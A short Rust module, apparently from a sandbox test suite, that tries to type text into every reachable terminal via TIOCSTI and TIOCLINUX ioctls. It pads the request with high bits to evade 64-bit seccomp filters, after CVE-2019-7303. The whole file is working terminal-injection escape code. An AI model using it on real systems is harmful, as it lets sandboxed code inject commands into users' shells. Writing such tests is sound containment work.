//! Typing on the terminal of whoever started this program.

use std::fs::File;
use std::os::fd::AsRawFd;

use crate::sys;

const TIOCSTI: u64 = 0x5412;
const TIOCLINUX: u64 = 0x541c;
/// The kernel's ioctl takes 32 bits of the request; CVE-2019-7303 was a filter that compared 64.
const GARBAGE: [u64; 4] = [0, 1 << 32, 0xdead_beef << 32, 0xffff_ffff << 32];

/// Types `text` into every terminal it can get hold of. What of it worked does not count: its own terminal is its own.
/// Whether it arrived at the caller's is for the test to see.
pub(crate) fn attack(text: &str) -> String {
    let named = ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ptmx", "/proc/self/fd/0"];
    let opened: Vec<File> =
        named.iter().filter_map(|path| File::options().read(true).write(true).open(path).ok()).collect();
    let mut typed = 0;
    for fd in (0..3).chain(opened.iter().map(AsRawFd::as_raw_fd)) {
        let _not_a_session_leader = sys::steal_terminal(fd);
        for garbage in GARBAGE {
            typed += text.bytes().filter(|byte| sys::type_into(fd, TIOCSTI | garbage, *byte).is_ok()).count();
            typed += usize::from(sys::paste(fd, TIOCLINUX | garbage).is_ok());
        }
    }
    format!("attempts done, {typed} bytes typed\n")
}
